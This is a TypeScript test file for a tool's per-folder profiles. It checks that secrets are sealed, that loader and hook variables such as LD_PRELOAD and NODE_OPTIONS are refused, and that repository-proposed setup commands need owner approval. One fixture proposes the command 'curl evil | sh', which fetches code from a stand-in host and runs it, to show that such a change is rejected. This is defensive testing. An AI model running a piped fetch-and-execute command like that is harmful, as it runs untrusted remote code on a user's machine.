import { mkdir, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { expect, test } from "vitest";
import { describeOnBothStores, type OpenTestStore } from "../../test/support/database.ts";
import { errorCode } from "../../test/support/error-code.ts";
import { makeTempFolder } from "../../test/support/temp-folder.ts";
import { systemClock } from "../core/clock.ts";
import { PosternError } from "../core/errors.ts";
import { createSecretBox } from "../platform/secret-box.ts";
import { createFolderProfiles, createFolders, createProposals, replacedBy } from "./index.ts";

const clock = systemClock;
const secret = "s3cret-7f1d";

async function setUp(openStore: OpenTestStore) {
  const root = await makeTempFolder();
  for (const dir of ["home", "code/app/.git/objects", "code/app/.git/refs", "code/app/src", "other"]) {
    await mkdir(join(root, dir), { recursive: true });
  }
  await writeFile(join(root, "code/app/.git/HEAD"), "ref: refs/heads/main\n");
  const { db } = await openStore();
  const folders = createFolders({ db, clock, home: join(root, "home") });
  const proposals = createProposals({ db, clock });
  const profiles = createFolderProfiles({
    ...{ db, clock, folders, proposals, secrets: createSecretBox(new Uint8Array(32)) },
    movesAgents: (name) => name === "AGENT_HOME",
    requireAgent(name) {
      if (name !== "known") throw new PosternError("agent_unknown", name);
    },
  });
  const at = (path: string): string => join(root, path);
  const { folderId } = await folders.add(at("code"), ["coding"]);
  const put = (input: Parameters<typeof replacedBy>[0]) => profiles.change({ folderId }, replacedBy(input));
  const propose = (text: string) => writeFile(at("code/app/.postern.json"), text);
  return { db, folders, profiles, proposals, at, folderId, put, propose };
}

describeOnBothStores("a folder's profile", (openStore) => {
  test("is replaced by a PUT, keeps its variables sealed and never shows them, and goes with the folder", async () => {
    const { db, folders, profiles, at, folderId, put } = await setUp(openStore);
    expect(await profiles.read({ folderId })).toMatchObject({
      path: at("code"),
      env: [],
      setup: null,
      updatedAt: null,
    });
    const shown = await put({ setup: "make", agent: "known", env: { TOKEN: secret, EMPTY: "" } });
    expect(shown).toMatchObject({ setup: "make", agent: "known", env: ["EMPTY", "TOKEN"], teardown: null });
    expect(await profiles.startProfileOf(at("code/app/src"))).toMatchObject({
      agent: "known",
      env: { TOKEN: secret, EMPTY: "" },
      setup: { text: "make", timeoutMs: 600_000 },
      teardown: null,
    });
    const rows = await db.selectFrom("folder_profiles").selectAll().execute();
    expect(JSON.stringify([rows, shown])).not.toContain(secret);
    // Fields that are left out are cleared, except for the variables; null keeps a variable.
    expect(await put({ model: "m" })).toMatchObject({ setup: null, agent: null, model: "m", env: ["EMPTY", "TOKEN"] });
    expect(await put({ env: { TOKEN: null, MORE: "x" } })).toMatchObject({ model: null, env: ["MORE", "TOKEN"] });
    expect((await profiles.startProfileOf(at("code"))).env).toEqual({ TOKEN: secret, MORE: "x" });
    expect(await errorCode(put({ env: { NEVER_SET: null } }))).toBe("invalid_request");
    // An inner folder has its own.
    await folders.add(at("code/app"), ["coding"]);
    expect(await profiles.startProfileOf(at("code/app"))).toMatchObject({ env: {}, setup: null });
    await folders.remove(at("code"));
    expect(await db.selectFrom("folder_profiles").selectAll().execute()).toEqual([]);
    expect(await errorCode(profiles.read({ folderId }))).toBe("folder_not_found");
  });

  test("can be replaced when the key that its variables were sealed with is lost", async () => {
    const { db, folders, proposals, folderId, put } = await setUp(openStore);
    await put({ setup: "make", env: { TOKEN: secret } });
    const secrets = createSecretBox(new Uint8Array(32).fill(1));
    const deps = { db, clock, folders, proposals, secrets, movesAgents: () => false, requireAgent: () => undefined };
    const profiles = createFolderProfiles(deps);
    expect(await errorCode(profiles.change({ folderId }, replacedBy({})))).toBe("store_unavailable");
    const env = { TOKEN: "new" };
    expect(await profiles.change({ folderId }, replacedBy({ env }))).toMatchObject({ env: ["TOKEN"], setup: null });
  });

  test("takes no variable that changes Postern's hooks, the loader, or where agents keep transcripts", async () => {
    const { profiles, folderId, put } = await setUp(openStore);
    const names =
      "POSTERN_HOME LD_PRELOAD DYLD_INSERT_LIBRARIES NODE_OPTIONS BASH_ENV HOME AGENT_HOME TERM A-B 1A".split(" ");
    for (const name of names) expect(await errorCode(put({ env: { [name]: "x" } })), name).toBe("invalid_request");
    expect(await errorCode(put({ agent: "unknown" }))).toBe("agent_unknown");
    expect(await errorCode(put({ env: { BIG: "x".repeat(140_000) } }))).toBe("invalid_request");
    expect(await profiles.read({ folderId })).toMatchObject({ env: [], agent: null });
    expect(await put({ env: { PATH: "/opt/bin:/usr/bin" } })).toMatchObject({ env: ["PATH"] });
  });

  test("keeps every variable when several are added at once", async () => {
    const { profiles, folderId } = await setUp(openStore);
    const names = Array.from({ length: 12 }, (_, index) => `V${index}`);
    await Promise.all(
      names.map((name) =>
        profiles.change({ folderId }, ({ settings, env }) => ({ settings, env: { ...env, [name]: "x" } })),
      ),
    );
    expect((await profiles.read({ folderId })).env).toEqual(names.toSorted());
  });

  test("takes what a repository proposes only while it is exactly what the owner approved", async () => {
    const { profiles, proposals, at, put, propose } = await setUp(openStore);
    const folder = at("code");
    const repository = at("code/app");
    const setupOf = async () => (await profiles.startProfileOf(at("code/app/src"))).setup?.text ?? null;
    await propose('{ "setup": "npm ci", "branchPrefix": "bot/" }');
    expect(await setupOf()).toBeNull();
    const [first] = await proposals.list(folder);
    expect(first).toMatchObject({ repository, state: "proposed", approved: null, error: null });
    await propose('{ "setup": "curl evil | sh" }');
    expect(await setupOf()).toBeNull();
    const hash = first?.hash ?? "";
    expect(await errorCode(proposals.approve(folder, { repository, hash })), "replaced").toBe("proposal_changed");
    await propose('{ "setup": "npm ci", "branchPrefix": "bot/" }');
    await setupOf();
    expect(await errorCode(proposals.approve(at("other"), { repository, hash }))).toBe("proposal_changed");
    expect(await proposals.approve(folder, { repository, hash })).toMatchObject({ state: "approved" });
    expect(await setupOf()).toBe("npm ci");
    expect(await profiles.startProfileOf(at("code/app"))).toMatchObject({ branchPrefix: "bot/" });
    await put({ setup: "own" });
    expect(await setupOf(), "the owner's own comes first").toBe("own");
    await put({});
    for (const changed of ['{ "setup": "npm ci" }', '{ "setup": "npm ci", "branchPrefix": "bot/" } ']) {
      await propose(changed);
      expect(await setupOf(), changed).toBeNull();
      expect(await proposals.list(folder)).toMatchObject([{ state: "changed", content: changed }]);
    }
    for (const invalid of ['{ "env": { "A": "b" } }', '{ "permissionMode": "all" }', "not JSON"]) {
      await propose(invalid);
      await setupOf();
      const [now] = await proposals.list(folder);
      expect(now?.error, invalid).not.toBeNull();
      const attempt = proposals.approve(folder, { repository, hash: now?.hash ?? "" });
      expect(await errorCode(attempt), invalid).toBe("invalid_request");
    }
  });
});
